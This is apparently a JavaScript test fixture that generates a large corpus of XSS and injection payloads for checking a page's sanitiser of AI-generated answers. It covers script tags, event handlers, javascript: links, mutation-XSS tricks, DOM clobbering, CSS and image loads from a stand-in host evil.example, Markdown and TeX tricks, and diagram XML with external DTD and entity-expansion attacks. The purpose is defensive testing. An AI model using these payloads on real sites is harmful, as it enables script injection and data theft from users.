// SPDX-License-Identifier: Apache-2.0
// Answers that try to run code, reach the network or pose as the page: every vector in every form an answer can take.
// Written for this page after the classes of attack that sanitisers are known to be tried with.

const RUN = "window.pwned=1;alert(1)";
const EVIL = "http://evil.example";

const EVENTS = [
  `<img src=x onerror="${RUN}">`, `<img src="${EVIL}/a.png" onload=${RUN}>`, `<svg onload="${RUN}">`, `<svg/onload=${RUN}>`,
  `<body onload="${RUN}">`, `<input autofocus onfocus="${RUN}">`, `<details open ontoggle="${RUN}">x</details>`,
  `<video><source onerror="${RUN}"></video>`, `<audio src=x onerror="${RUN}">`, `<marquee onstart="${RUN}">x</marquee>`,
  `<div style="animation:pulse 1s" onanimationstart="${RUN}">x</div>`, `<p onclick="${RUN}" onmouseover="${RUN}">x</p>`,
  `<select autofocus onfocus="${RUN}"><option>x</select>`, `<iframe onload="${RUN}"></iframe>`, `<object onerror="${RUN}" data=x></object>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`, `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
  `<button popovertarget=x>y</button><p popover id=x onbeforetoggle="${RUN}">z</p>`, `<form onformdata="${RUN}"><button>x</button></form>`,
];
const SCRIPTS = [
  `<script>${RUN}</script>`, `<ScRiPt src="${EVIL}/x.js"></sCrIpT>`, `<script src="/assets/x.js"></script>`, `<svg><script>${RUN}</script></svg>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`, `<template><script>${RUN}</script></template>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`, `<plaintext><script>${RUN}</script>`, `<xmp><script>${RUN}</script></xmp>`,
];
const ADDRESSES = [
  `<a href="javascript:${RUN}">x</a>`, `<a href=" java\tscript:${RUN}">x</a>`, `<a href="&#106;avascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`, `<a href="vbscript:${RUN}">x</a>`, `<a href="/v1/models">x</a>`, `<a href="//evil.example">x</a>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`, `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form action="${EVIL}"><input name=a><button formaction="javascript:${RUN}">x</button></form>`, `<math href="javascript:${RUN}">x</math>`,
  `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`, `<iframe src="${EVIL}"></iframe>`,
  `<embed src="${EVIL}/x.swf">`, `<object data="${EVIL}/x"></object>`, `<meta http-equiv=refresh content="0;url=${EVIL}">`, `<base href="${EVIL}/">`,
  `<link rel=stylesheet href="${EVIL}/x.css">`, `<link rel=preconnect href="${EVIL}">`, `<link rel="dns-prefetch" href="//evil.example">`,
  `<link rel=prefetch href="${EVIL}/p">`, `<img src="${EVIL}/secret?c=1">`, `<img srcset="${EVIL}/a 1x" src="/x.png">`, `<picture><source srcset="${EVIL}/a"><img></picture>`,
  `<video poster="${EVIL}/a" src="${EVIL}/v"></video>`, `<table background="${EVIL}/a"><tr><td background="${EVIL}/b">x</table>`,
  `<svg><image href="${EVIL}/a.svg"/><use href="${EVIL}/a.svg#x"/></svg>`, `<svg><feImage href="${EVIL}/a"/></svg>`, `<a ping="${EVIL}" href="${EVIL}">x</a>`,
];
const STYLES = [
  `<style>@import "${EVIL}/x.css";</style>x`, `<style>body{background:url(${EVIL}/a)}</style>x`, `<style>@font-face{font-family:x;src:url(${EVIL}/f)}*{font-family:x}</style>x`,
  `<style>*{background:u\\72l(${EVIL}/a)}</style>x`, `<style>*{background:image-set("${EVIL}/a" 1x)}</style>x`, `<p style="background:url('${EVIL}/a')">x</p>`,
  `<p style="position:fixed;inset:0;background:red">x</p>`, `<div class="dialog-backdrop toast failure" id="app">x</div>`, `<div style="behavior:url(x)">x</div>`,
  `<style>body{display:none}</style>x`, `<p style="list-style:url(${EVIL}/l);cursor:url(${EVIL}/c),auto">x</p>`, `<svg><style>*{fill:url(${EVIL}/a#b)}</style><circle r="9"/></svg>`,
];
const CONFUSIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`, `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`, `<svg><desc><noembed></noembed><img src=x onerror=${RUN}></desc></svg>`,
  `<a id=cookie name=cookie>x</a><form name=body><input name=attributes></form>`, `<img name=getElementById><img id=location name=href>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`, `<![CDATA[<img src=x onerror=${RUN}>]]>`, `<!--><img src=x onerror=${RUN}>-->`,
  `<img src=x onerror=${RUN}//`, `<textarea><a title="</textarea><img src=x onerror=${RUN}>">`, `<title><a title="</title><img src=x onerror=${RUN}>">`,
  `<annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml>`, `\u0000<img src=x onerror=${RUN}>`, `<img\u000bsrc=x\u000conerror=${RUN}>`,
  `<div data-tex="\\href{javascript:${RUN}}{x}"></div>`, `<img data-remote="javascript:${RUN}" alt=x>`, `<span data-tex="<img src=x onerror=${RUN}>"></span>`,
];
const VECTORS = [...EVENTS, ...SCRIPTS, ...ADDRESSES, ...STYLES, ...CONFUSIONS];

const MARKDOWN = [
  `[x](javascript:${RUN})`, `[x](<java\nscript:${RUN}>)`, `![x](${EVIL}/a.png)`, `![x](javascript:${RUN})`, `![${"`"}](data:text/html,x)`, `[x]: javascript:${RUN}\n[x]`,
  `<javascript:${RUN}>`, `[x](${EVIL} "onmouseover=${RUN}")`, `![a](x"onerror="${RUN})`, `$\\href{javascript:${RUN}}{x}$`, `$$\\url{javascript:${RUN}}$$`,
  `$$\\includegraphics{${EVIL}/a.png}$$`, `$\\class{dialog}{x} \\htmlData{a=b}{y} \\style{color:red}{z}$`, `$$\\def\\a{\\a\\a}\\a$$`, `$\\text{<img src=x onerror=${RUN}>}$`,
  `$$\\rule{999999em}{999999em}$$`, `[^1]: <script>${RUN}</script>`, `&lt;img src=x onerror=${RUN}&gt;`, `<https://evil.example/"onmouseover=${RUN}>`, `| <img src=x onerror=${RUN}> |\n| - |\n| [x](javascript:${RUN}) |`,
];

const xmlAttribute = (text) => text.replace(/[&<>"\n\t]/g, (c) => `&#${c.charCodeAt(0)};`).replace(/[\u0000\u000b\u000c]/g, "");
const cell = (value, style = "html=1", more = "") =>
  `<mxGraphModel><root><mxCell id="0"/><mxCell id="1" parent="0"/><mxCell id="a" value="${value}" style="${style}" vertex="1" parent="1" ${more}><mxGeometry width="90" height="40" as="geometry"/></mxCell></root></mxGraphModel>`;

const DIAGRAMS = [
  cell("x", `shape=image;image=${EVIL}/a.png`), cell("x", `fillColor=url(${EVIL}/a);strokeColor=red`), cell("x", "shape=label;image=javascript:alert(1)"),
  cell("x", "html=1", `onclick="${RUN}"`), `<mxGraphModel><root><UserObject label="x" link="javascript:${RUN}" id="2"><mxCell vertex="1" parent="1"><mxGeometry width="9" height="9"/></mxCell></UserObject></root></mxGraphModel>`,
  `<!DOCTYPE m [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>${cell("&b;")}`, `<!DOCTYPE m SYSTEM "${EVIL}/x.dtd">${cell("x")}`,
  `<mxGraphModel><root><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script></root></mxGraphModel>`,
  `<mxfile><diagram>7V1bc+I4Fv41VO0+</diagram></mxfile>`, `<?xml-stylesheet href="${EVIL}/x.css"?>${cell("x")}`, cell("x", "fontFamily=x;fontSize=1e9;strokeWidth=1e9"),
  `<mxGraphModel><root><Object as="x">${RUN}</Object><mxCell id="a" vertex="1" parent="a" value="self"><mxGeometry width="9" height="9"/></mxCell></root></mxGraphModel>`,
];

/** Every answer of the corpus: bare, fenced as HTML, as a diagram's label, as a JSON label, inside a list and a table. */
export function attacks() {
  const all = [...MARKDOWN, ...DIAGRAMS, ...DIAGRAMS.map((xml) => `\`\`\`xml\n${xml}\n\`\`\``)];
  VECTORS.forEach((vector, i) => {
    all.push(`Before ${vector} after`);
    all.push(`\`\`\`html\n<!doctype html><html><head><title>t</title></head><body><p>page</p>${vector}</body></html>\n\`\`\``);
    if (i % 2 === 0) all.push(cell(xmlAttribute(vector)));
    else all.push(JSON.stringify([{ bbox_2d: [10, 10, 500, 500], label: vector }, { op: "type", point: [5, 5], text: vector, label: vector }]));
    if (i % 3 === 0) all.push(`- item\n\n  ${vector}\n\n| a |\n| - |\n| ${vector.replaceAll("|", "")} |`);
  });
  return all;
}
